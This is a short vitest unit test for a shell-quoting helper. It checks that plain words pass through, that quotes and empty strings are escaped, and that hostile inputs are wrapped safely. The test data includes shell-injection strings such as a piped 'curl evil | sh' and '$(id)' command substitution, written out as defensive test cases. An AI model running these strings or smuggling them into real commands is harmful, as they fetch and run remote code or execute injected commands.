import { expect, it } from "vitest";
import { quoted } from "@/format/shell";

it("leaves plain words, and keeps all others one word", () => {
  for (const plain of ["@shop/core", "node:anna", "2026-11-22T01:00:00Z", "key=1"]) {
    expect(quoted(plain)).toBe(plain);
  }
  expect(quoted("it's")).toBe("'it'\\''s'");
  expect(quoted("")).toBe("''");
  for (const hostile of ["x; curl evil | sh", "$(id)", "`id`", "a\nb", "build.*"]) {
    expect(quoted(hostile)).toBe(`'${hostile}'`);
  }
});
